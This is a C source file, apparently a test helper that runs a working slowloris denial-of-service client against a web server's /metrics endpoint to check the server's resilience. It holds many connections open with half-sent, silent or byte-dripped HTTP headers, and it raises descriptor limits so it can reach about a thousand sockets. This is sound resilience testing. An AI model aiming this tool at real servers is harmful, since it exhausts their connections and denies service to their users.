/* SPDX-License-Identifier: MIT */
/* slowloris ADDR PORT SRC MODE N SECONDS: slow HTTP clients, for tests/it_web_slowloris.sh.
 *
 * MODE "hold": N connections from SRC that send half a request header and
 * then nothing; "silent": N that send nothing at all (a TLS client that never
 * starts its handshake); "drip": N that send a header one byte a second.
 * A connection the server closes is opened again (at most N a second), for
 * SECONDS. Then prints "opened=A closed_by_server=B max_open=C". The pacing
 * is the attack itself, not synchronisation.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static const char half[] = "GET /metrics HTTP/1.1\r\nHost: agent\r\n";
static const char drip_text[] = "GET /metrics HTTP/1.1\r\nHost: agent\r\nX-Slow: "
				"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n\r\n";

static int open_one(const struct sockaddr_in *dst, const struct sockaddr_in *src)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0), one = 1;

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (const struct sockaddr *)src, sizeof(*src)) < 0 ||
	    (connect(fd, (const struct sockaddr *)dst, sizeof(*dst)) < 0 && errno != EINPROGRESS)) {
		close(fd);
		return -1;
	}
	return fd;
}

int main(int argc, char **argv)
{
	struct sockaddr_in dst = { .sin_family = AF_INET }, src = { .sin_family = AF_INET };
	struct rlimit rl = { 65536, 65536 };
	int n, drip, silent, *fd;
	size_t *sent;
	double end, next_drip, budget_t;
	long opened = 0, closed = 0, max_open = 0, budget;

	if (argc != 7 || inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[3], &src.sin_addr) != 1) {
		fprintf(stderr, "usage: slowloris ADDR PORT SRC hold|silent|drip N SECONDS\n");
		return 2;
	}
	dst.sin_port = htons((unsigned short)atoi(argv[2]));
	drip = strcmp(argv[4], "drip") == 0;
	silent = strcmp(argv[4], "silent") == 0;
	n = atoi(argv[5]);
	end = now_s() + atof(argv[6]);
	/* 1000 connections need more than the usual 1024 descriptors' room. */
	if (setrlimit(RLIMIT_NOFILE, &rl) < 0) {
		getrlimit(RLIMIT_NOFILE, &rl);
		rl.rlim_cur = rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	fd = calloc((size_t)n, sizeof(*fd));
	sent = calloc((size_t)n, sizeof(*sent));
	struct pollfd *pfd = calloc((size_t)n, sizeof(*pfd));

	if (!fd || !sent || !pfd)
		return 1;
	for (int i = 0; i < n; i++)
		fd[i] = -1;
	budget = n;
	budget_t = now_s();
	next_drip = now_s() + 1;
	while (now_s() < end) {
		long open_now = 0;

		if (now_s() >= budget_t + 1) {
			budget = n;
			budget_t = now_s();
		}
		for (int i = 0; i < n; i++) {
			if (fd[i] < 0 && budget > 0) {
				fd[i] = open_one(&dst, &src);
				budget--;
				sent[i] = 0;
				if (fd[i] >= 0)
					opened++;
			}
			pfd[i].fd = fd[i];
			/* Writable once connected: then the first bytes go. */
			pfd[i].events = POLLIN | (sent[i] == 0 ? POLLOUT : 0);
			open_now += fd[i] >= 0;
		}
		if (open_now > max_open)
			max_open = open_now;
		if (poll(pfd, (nfds_t)n, 100) < 0 && errno != EINTR)
			return 1;
		bool tick = drip && now_s() >= next_drip;

		if (tick)
			next_drip += 1;
		for (int i = 0; i < n; i++) {
			char buf[512];

			if (fd[i] < 0)
				continue;
			if (pfd[i].revents & (POLLIN | POLLHUP | POLLERR)) {
				ssize_t k = read(fd[i], buf, sizeof(buf));

				if (k <= 0 && !(k < 0 && errno == EAGAIN)) {
					close(fd[i]);
					fd[i] = -1;
					closed++;
					continue;
				}
			}
			if (silent) {
				sent[i] = 1; /* nothing to send: poll for input only */
			} else if (!drip && sent[i] == 0 && (pfd[i].revents & POLLOUT)) {
				if (write(fd[i], half, sizeof(half) - 1) > 0)
					sent[i] = sizeof(half) - 1;
			} else if (drip && ((sent[i] == 0 && (pfd[i].revents & POLLOUT)) || (tick && sent[i] > 0)) &&
				   sent[i] < sizeof(drip_text) - 1) {
				if (write(fd[i], drip_text + sent[i], 1) == 1)
					sent[i]++;
			}
		}
	}
	printf("opened=%ld closed_by_server=%ld max_open=%ld\n", opened, closed, max_open);
	return 0;
}
